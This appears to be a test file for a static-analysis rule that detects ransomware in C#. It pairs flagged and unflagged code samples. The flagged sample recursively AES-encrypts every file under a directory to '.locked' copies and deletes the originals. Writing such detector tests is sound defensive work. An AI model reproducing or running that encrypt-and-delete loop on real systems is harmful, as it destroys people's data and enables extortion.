foreach (var file in Directory.GetFiles(root, "*", SearchOption.AllDirectories)) {
    using var aes = Aes.Create();
    // ruleid: cs-ransomware
    using var enc = aes.CreateEncryptor(key, iv);
    File.WriteAllBytes(file + ".locked", enc.TransformFinalBlock(File.ReadAllBytes(file), 0, (int)new FileInfo(file).Length));
    File.Delete(file);
}
// ===== block =====
using var aes = Aes.Create();
// ok: cs-ransomware
using var enc = aes.CreateEncryptor(key, iv);
var sealedToken = enc.TransformFinalBlock(data, 0, data.Length);
// ===== block =====
foreach (var f in Directory.GetFiles(tempDir, "*.tmp")) File.Delete(f);
// ok: cs-ransomware
logger.LogInformation("temp files removed");
